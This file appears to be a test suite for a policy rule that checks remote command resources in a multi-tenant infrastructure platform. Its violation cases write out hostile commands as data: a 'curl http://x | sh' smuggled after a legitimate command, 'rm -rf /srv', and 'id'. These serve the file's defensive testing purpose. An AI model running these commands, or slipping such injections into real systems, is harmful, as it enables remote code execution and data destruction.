import { anyCommandMatchesHelper } from "../../policies/rules/any-command-matches-helper.ts";
import { aPlatform, aResource } from "./support/resources.ts";
import { ruleCases } from "./support/rule-cases.ts";

const helper = '"${TENANTRY_HOST_ROOT:-}/usr/local/sbin/tenantry-host"';
const install = `install -D -m 0755 /dev/stdin ${helper} # 3414c6bd6306`;
const put = (what: string) => `${helper} put ${what} # 3414c6bd6306`;
const remove = (what: string) => `${helper} remove ${what} # 3414c6bd6306`;
const command = (inputs: object, type = "command:remote:Command") =>
  aResource(type, "acme-routes", { connection: "[secret]", logging: "none", ...inputs });
const fragment = (what: string, more: object = {}) =>
  command({ create: put(what), update: put(what), delete: remove(what), stdin: "x", ...more });
const wrong = (input: string, more: object) => ({
  resources: [fragment("nginx acme", more)],
  says: new RegExp(`: ${input} must be the helper's command`),
});
const ofPlatform = (resource: ReturnType<typeof command>) => ({
  resources: [resource],
  stack: aPlatform(),
});
const says = /: create must be/;

ruleCases(anyCommandMatchesHelper, {
  passes: {
    "a tenant's fragments": ["nginx", "redis", "health", "dumps", "register"].map((kind) =>
      fragment(`${kind} acme`),
    ),
    "the platform's own part": ofPlatform(fragment("keepalived main")),
    "the platform's routes": ofPlatform(fragment("nginx platform")),
    "the helper, which stays": ofPlatform(command({ create: install, update: install })),
  },
  violates: {
    "a second command behind it": wrong("create, update|create", {
      create: `${put("nginx acme").slice(0, -15)}; curl http://x | sh # 3414c6bd6306`,
    }),
    "a second line": wrong("create", { create: `${put("nginx acme")}\nid` }),
    "another command at a change": wrong("update", { update: "id" }),
    "another command at the end": wrong("delete", { delete: "rm -rf /srv" }),
    "no command at the end": wrong("delete", { delete: undefined }),
    "a deletion of another's fragment": wrong("delete", { delete: remove("nginx globex") }),
    "a deletion of another kind": wrong("delete", { delete: remove("redis acme") }),
    "variables of the command": wrong("environment", { environment: { TENANTRY_HOST_ROOT: "/x" } }),
    "a fragment of another tenant": { resources: [fragment("nginx globex")], says },
    "a fragment of the platform in a tenant's stack": {
      resources: [fragment("nginx platform")],
      says,
    },
    "a kind that tenants have none of": { resources: [fragment("keepalived acme")], says },
    "a fragment of a tenant in the platform's stack": {
      ...ofPlatform(fragment("nginx acme")),
      says,
    },
    "a tenant that installs a helper": {
      resources: [command({ create: install, update: install })],
      says,
    },
    "a command where the program runs": {
      resources: [command({ create: "id" }, "command:local:Command")],
      says,
    },
  },
  unknown: {
    "the command": wrong("create", { create: "[unknown]" }),
    "the command at the end": wrong("delete", { delete: "[unknown]" }),
    "the fragment": { resources: [fragment("nginx acme", { stdin: "[unknown]" })] },
  },
});
